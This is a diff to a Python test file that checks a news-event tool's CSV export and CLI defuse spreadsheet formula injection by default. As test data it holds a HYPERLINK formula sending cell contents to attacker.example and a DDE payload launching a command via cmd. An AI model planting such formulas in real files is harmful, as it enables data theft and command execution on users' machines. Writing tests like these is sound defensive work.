@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import datetime as dt
 import io
 import json
@@ -10,7 +11,9 @@ from pathlib import Path
 from typing import Any, get_args
 
 import pytest
+from typer.testing import CliRunner
 
+from flashpoint.cli import app
 from flashpoint.errors import FlashpointError
 from flashpoint.export import (
     CSV_COLUMNS,
@@ -189,6 +192,16 @@ def records() -> list[dict[str, Any]]:
     return event_records([*corpus(), gao_extraction()])
 
 
+# A publisher name as a hostile page can set it: a spreadsheet runs it when the CSV is opened.
+FORMULA_PUBLISHER = '=HYPERLINK("https://attacker.example/?leak="&A1,"Gao")'
+
+
+def formula_extraction() -> Extraction:
+    """The Gao report under a publisher name that is a spreadsheet formula."""
+    ex = gao_extraction()
+    return Extraction(dataclasses.replace(ex.article, publisher=FORMULA_PUBLISHER), ex.events)
+
+
 def csv_rows(text: str) -> dict[str, dict[str, str]]:
     reader = csv.DictReader(io.StringIO(text))
     assert reader.fieldnames == list(CSV_COLUMNS)
@@ -333,11 +346,28 @@ def test_csv_keeps_awkward_text_intact_and_can_defuse_formulas() -> None:
             {"article_id": "gao-market", "start": 0, "end": 5, "sentence": "=cmd|'/c calc'!A1"}
         ],
     )
-    raw = csv_rows(to_csv([formula]))["ev-gao-threat"]
-    safe = csv_rows(to_csv([formula], spreadsheet_safe=True))["ev-gao-threat"]
+    raw = csv_rows(to_csv([formula], spreadsheet_safe=False))["ev-gao-threat"]
+    safe = csv_rows(to_csv([formula]))["ev-gao-threat"]  # safe is the default
     assert raw["notes"] == "=cmd|'/c calc'!A1"
     assert safe["notes"] == "'=cmd|'/c calc'!A1"
     assert safe["event_date"] == raw["event_date"]
+
+
+def test_events_cli_csv_is_spreadsheet_safe_unless_told_otherwise(tmp_path: Path) -> None:
+    db = tmp_path / "formula.db"
+    with open_store(db) as store:
+        store.add([formula_extraction()])
+    runner = CliRunner()
+    args = ["events", "--db", str(db), "--format", "csv"]
+    safe = runner.invoke(app, args)
+    raw = runner.invoke(app, [*args, "--no-spreadsheet-safe"])
+    assert safe.exit_code == 0 and raw.exit_code == 0, (safe.output, raw.output)
+    safe_rows, raw_rows = csv_rows(safe.stdout), csv_rows(raw.stdout)
+    assert len(safe_rows) == 3
+    assert {r["source"] for r in safe_rows.values()} == {"'" + FORMULA_PUBLISHER}
+    assert {r["source"] for r in raw_rows.values()} == {FORMULA_PUBLISHER}
+    # only the cells a spreadsheet would run change
+    assert [r["notes"] for r in safe_rows.values()] == [r["notes"] for r in raw_rows.values()]
 
 
 def test_csv_from_store_matches_fresh_extractions(tmp_path: Path) -> None:
